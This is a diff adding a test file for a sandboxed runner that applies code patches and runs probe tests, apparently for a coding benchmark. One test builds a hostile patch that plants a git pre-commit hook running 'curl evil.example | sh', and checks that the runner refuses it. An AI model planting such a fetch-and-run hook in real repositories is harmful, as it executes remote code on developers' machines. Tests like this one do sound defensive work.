@@ -1,0 +1,202 @@
+import { randomUUID } from "node:crypto";
+import { readdirSync, readFileSync } from "node:fs";
+import { mkdtemp, rm } from "node:fs/promises";
+import os from "node:os";
+import path from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { checkoutBase } from "./checkout";
+import { collectTests, executeRun } from "./execute";
+import { createNodeFixture, type NodeFixture } from "./testing/node-fixture";
+import type { RunnerOptions, TRunSpec } from "./types";
+
+let fixture: NodeFixture;
+let options: RunnerOptions;
+
+beforeAll(async () => {
+  fixture = await createNodeFixture();
+  options = { cacheDir: await mkdtemp(path.join(os.tmpdir(), "specpath-exec-cache-")) };
+});
+afterAll(async () => {
+  await rm(fixture.repoDir, { recursive: true, force: true });
+  await rm(options.cacheDir, { recursive: true, force: true });
+});
+
+const spec = (overrides: Partial<TRunSpec> = {}): TRunSpec => ({
+  repoUrl: fixture.repoDir,
+  baseCommit: fixture.baseCommit,
+  setupCommand: null,
+  testCommand: fixture.testCommand,
+  resultFormat: "junit",
+  hiddenTestPatch: fixture.hiddenTestPatch,
+  patch: null,
+  historyFile: null,
+  probes: fixture.probes,
+  timeoutMs: 30_000,
+  ...overrides,
+});
+
+describe("executeRun on the Node fixture", () => {
+  it("passes the gold patch on every probe, in bwrap", async () => {
+    const result = await executeRun(spec({ patch: fixture.goldPatch }), options);
+    expect(result).toMatchObject({ outcome: "passed", signature: "111", sandbox: "bwrap", infrastructureReason: null });
+    expect(result.tests.map((t) => t.id)).toContain("add sums two numbers");
+    expect(result.report).toEqual({ format: "junit", flavor: "node" });
+    expect(result.timings.testMs).toBeGreaterThan(0);
+    expect(result.timings.totalMs).toBeGreaterThanOrEqual(result.timings.testMs);
+  });
+
+  it("fails the base on every probe (and the gold run left the prepared workspace untouched)", async () => {
+    const result = await executeRun(spec(), options);
+    expect(result).toMatchObject({ outcome: "failed", signature: "000" });
+    expect(result.workspace?.created).toBe(false);
+  });
+
+  it("fails a negative on its target probe only", async () => {
+    const result = await executeRun(spec({ patch: fixture.negativePatch }), options);
+    expect(result).toMatchObject({ outcome: "failed", signature: "101" });
+    expect(result.message).toMatch(/1 of 3 probes did not pass: clamp > returns the upper bound above the range$/);
+  });
+
+  it("reports a patch that does not apply as patch_apply_failed with git's message", async () => {
+    const result = await executeRun(spec({ patch: fixture.staleContextPatch }), options);
+    expect(result.outcome).toBe("patch_apply_failed");
+    expect(result.message).toMatch(/patch failed: src\/math\.js:1/);
+    expect(result.logs.apply).toMatch(/patch does not apply/);
+    expect(result.signature).toBeNull();
+  });
+
+  it("refuses a patch that touches .git/", async () => {
+    const hook = "diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\nnew file mode 100755\n--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl evil.example | sh\n";
+    const result = await executeRun(spec({ patch: hook }), options);
+    expect(result.outcome).toBe("patch_apply_failed");
+    expect(result.message).toMatch(/refused: path \.git\/hooks\/pre-commit is inside \.git/);
+  });
+
+  it("fails closed when a probe was renamed: empty_collection, never a pass", async () => {
+    const renamed = [...fixture.probes.slice(0, 2), "clamp > passes values inside the range"];
+    const result = await executeRun(spec({ patch: fixture.goldPatch, probes: renamed }), options);
+    expect(result).toMatchObject({ outcome: "empty_collection", signature: "110", missingProbes: ["clamp > passes values inside the range"] });
+  });
+
+  it("reports a test command that fails without writing a report as infrastructure_error", async () => {
+    const result = await executeRun(spec({ testCommand: "echo 'cannot find module' >&2; exit 7" }), options);
+    expect(result).toMatchObject({ outcome: "infrastructure_error", infrastructureReason: "report_missing", exitCode: 7 });
+    expect(result.message).toMatch(/exited with 7 and wrote no junit report/);
+    expect(result.logs.stderr).toBe("cannot find module\n");
+  });
+
+  it("reports a report that is not XML as infrastructure_error", async () => {
+    const result = await executeRun(spec({ testCommand: 'echo "3 passing" > "$SPECPATH_REPORT"' }), options);
+    expect(result).toMatchObject({ outcome: "infrastructure_error", infrastructureReason: "report_unparseable" });
+    expect(result.message).toMatch(/not valid XML/);
+  });
+
+  it("stops a runaway test command at its timeout and kills its whole process tree", async () => {
+    const marker = `runaway-${randomUUID()}`;
+    const result = await executeRun(
+      spec({ testCommand: `node -e "setInterval(() => {}, 1000)" ${marker} & sleep 600`, timeoutMs: 1_500 }),
+      options,
+    );
+    expect(result.outcome).toBe("timeout");
+    expect(result.timings.testMs).toBeLessThan(5_000);
+    expect(processesMentioning(marker)).toEqual([]);
+  });
+
+  it("survives a memory hog: it hits its limit and the run ends as data", async () => {
+    const result = await executeRun(
+      spec({ testCommand: "node -e \"const a = []; for (;;) a.push(Buffer.alloc(1 << 20, 1))\"" }),
+      { ...options, limits: { memoryBytes: 200 * 1024 * 1024 } },
+    );
+    expect(result.outcome).toBe("infrastructure_error");
+    expect(result.limitsHit).toContain("memory");
+    expect(result.message).toMatch(/limit reached: memory/);
+  });
+
+  it("writes the history file for replay runs", async () => {
+    const check = `test "$(cat docs/history.md)" = "Turn 1: add clamp" && ${fixture.testCommand}`;
+    const result = await executeRun(
+      spec({ patch: fixture.goldPatch, historyFile: { path: "docs/history.md", content: "Turn 1: add clamp" }, testCommand: check }),
+      options,
+    );
+    expect(result.outcome).toBe("passed");
+  });
+
+  it("prepares once for N runs, even when they start together", async () => {
+    const counting = spec({
+      setupCommand: "echo prepared >> .setup-marker",
+      testCommand: `printf 'setups=%s\\n' "$(wc -l < .setup-marker)" >&2; ${fixture.testCommand}`,
+      patch: fixture.goldPatch,
+    });
+    const concurrent = await Promise.all([executeRun(counting, options), executeRun(counting, options)]);
+    const sequential = [await executeRun(counting, options), await executeRun(counting, options)];
+    const all = [...concurrent, ...sequential];
+    expect(all.map((r) => r.outcome)).toEqual(["passed", "passed", "passed", "passed"]);
+    expect(all.filter((r) => r.workspace?.created)).toHaveLength(1);
+    expect(new Set(all.map((r) => r.workspace?.key)).size).toBe(1);
+    for (const r of all) expect(r.logs.stderr).toMatch(/^setups=1$/m);
+    expect(all[0]?.logs.setup).toMatch(/\$ echo prepared >> \.setup-marker/);
+  });
+
+  it("cleans up the run workspaces", async () => {
+    expect(readdirSync(path.join(options.cacheDir, "runs"))).toEqual([]);
+  });
+
+  it("rejects an invalid spec as data, naming the field", async () => {
+    const result = await executeRun(spec({ probes: [], historyFile: { path: ".git/config", content: "" } }), options);
+    expect(result).toMatchObject({ outcome: "infrastructure_error", infrastructureReason: "invalid_spec" });
+    expect(result.message).toMatch(/probes: must list at least one probe/);
+    expect(result.message).toMatch(/historyFile\.path: must be a relative path/);
+  });
+
+  it("reports a repository that is gone and a commit that does not exist", async () => {
+    const gone = await executeRun(spec({ repoUrl: path.join(os.tmpdir(), `missing-${randomUUID()}`) }), options);
+    expect(gone).toMatchObject({ outcome: "infrastructure_error", infrastructureReason: "not_a_repository" });
+    const noCommit = await executeRun(spec({ baseCommit: "0123456789abcdef0123456789abcdef01234567" }), options);
+    expect(noCommit).toMatchObject({ outcome: "infrastructure_error", infrastructureReason: "commit_not_found" });
+  });
+
+  it("runs without a sandbox when asked, and says so", async () => {
+    const result = await executeRun(spec({ patch: fixture.goldPatch }), { ...options, sandbox: "none" });
+    expect(result).toMatchObject({ outcome: "passed", sandbox: "none" });
+    expect(result.warnings.join("\n")).toMatch(/^unsandboxed: /m);
+  });
+});
+
+describe("collectTests", () => {
+  it("lists every executed test with its outcome on the base", async () => {
+    const { patch: _p, historyFile: _h, probes: _q, ...collectSpec } = spec();
+    const result = await collectTests(collectSpec, options);
+    expect(result.outcome).toBe("collected");
+    expect(result.tests).toEqual(
+      expect.arrayContaining([
+        { id: "add sums two numbers", outcome: "pass", count: 1 },
+        ...fixture.probes.map((id) => ({ id, outcome: "fail", count: 1 })),
+      ]),
+    );
+  });
+});
+
+describe("checkoutBase", () => {
+  it("checks out the base commit and says how many files it has", async () => {
+    const result = await checkoutBase(fixture.repoDir, fixture.baseCommit.slice(0, 10), options);
+    expect(result).toMatchObject({ outcome: "ok", commit: fixture.baseCommit, fileCount: 3 });
+  });
+
+  it("names what is wrong with the repository or the commit", async () => {
+    expect(await checkoutBase(os.tmpdir(), fixture.baseCommit, options)).toMatchObject({ outcome: "not_a_repository" });
+    expect(await checkoutBase(fixture.repoDir, "deadbeef", options)).toMatchObject({ outcome: "commit_not_found" });
+  });
+});
+
+function processesMentioning(marker: string): string[] {
+  const found: string[] = [];
+  for (const pid of readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
+    try {
+      const cmdline = readFileSync(`/proc/${pid}/cmdline`, "utf8").replace(/\0/g, " ");
+      if (cmdline.includes(marker) && Number(pid) !== process.pid) found.push(`${pid}: ${cmdline}`);
+    } catch {
+      // exited meanwhile
+    }
+  }
+  return found;
+}
